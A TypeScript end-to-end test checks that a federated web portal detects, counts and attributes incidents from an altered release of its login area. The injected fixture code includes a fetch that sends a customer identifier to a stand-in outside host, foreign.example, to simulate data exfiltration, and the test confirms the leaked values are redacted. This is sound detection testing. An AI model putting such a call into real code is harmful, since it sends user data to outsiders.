import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { ReleaseIncident } from '@portal/federation-contract/release-telemetry';
import { writeAlteredRelease } from '@portal/testbed/releases/altered-release';
import { startStagedPortal } from '@portal/testbed/runner/portal-server';
import { asNobody, expect, test } from '../fixtures/portal-test.ts';

const built = (name: string) => path.resolve(import.meta.dirname, '../..', name, 'dist');
const opsToken = 'token-of-the-journey-0123456789-0123456789';

/** Released code of an area that works, and misbehaves some time later. */
const misbehaving = `
  const block = () => { const end = performance.now() + 300; while (performance.now() < end); };
  setTimeout(() => { throw new TypeError('no balance of customer 4711'); }, 500);
  setTimeout(() => { void Promise.reject(new RangeError('ann@example.com has no balance')); }, 600);
  setTimeout(block, 700);
  setTimeout(() => { fetch('https://foreign.example/collect?customer=4711').catch(() => undefined); }, 1200);
`;

test.use(asNobody);

test('names the area whose code throws, rejects, blocks the page and violates the policy', async ({
  page,
  request,
  faults,
}) => {
  // It starts a portal of its own, which takes long on a busy machine.
  test.setTimeout(120_000);
  faults.expect(/no balance/, /foreign\.example/);
  const folder = mkdtempSync(path.join(tmpdir(), 'portal-incidents-'));
  const alteration = { suffix: 'incidents', script: /^page-login\..*\.js$/, code: misbehaving };
  const version = writeAlteredRelease(built('remote-auth'), path.join(folder, 'auth'), alteration);
  await using portal = await startStagedPortal(
    { host: built('host'), areas: [{ active: path.join(folder, 'auth') }] },
    { OPS_TOKEN: opsToken, DEMO_ACCOUNT: 'false' },
  );
  const read = async (path: string) =>
    (await request.get(portal.url + path, { headers: { authorization: `Bearer ${opsToken}` } })).text();
  const metrics = () => read('/metrics');
  const labels = `area="auth",version="${version}",source="active"`;

  await page.goto(`${portal.url}/login?language=en`);
  for (const kind of ['error', 'rejection', 'long-task', 'policy'])
    await expect
      .poll(metrics, { timeout: 20_000 })
      .toContain(`portal_release_incidents_total{${labels},kind="${kind}",attribution="code"} 1`);
  expect(await metrics()).toContain(`portal_release_info{area="auth",version="${version}",role="active"} 1`);
  await expect(page.getByRole('textbox', { name: 'Password' })).toBeEditable();
  // A page that is left reports its web vitals.
  await page.goto('about:blank');
  await expect.poll(metrics).toContain(`portal_time_to_first_byte_seconds_count{${labels}} 1`);
  const { items }: { items: ReleaseIncident[] } = JSON.parse(
    await read('/ops/incidents?since=2026-01-01T00:00:00Z'),
  );
  expect(items).toContainEqual(
    expect.objectContaining({ kind: 'error', detail: 'TypeError: no balance of customer …' }),
  );
  expect(JSON.stringify(items)).not.toMatch(/4711|ann@/);
  expect(items.filter(({ area }) => area !== 'auth')).toEqual([]);
  rmSync(folder, { recursive: true });
});
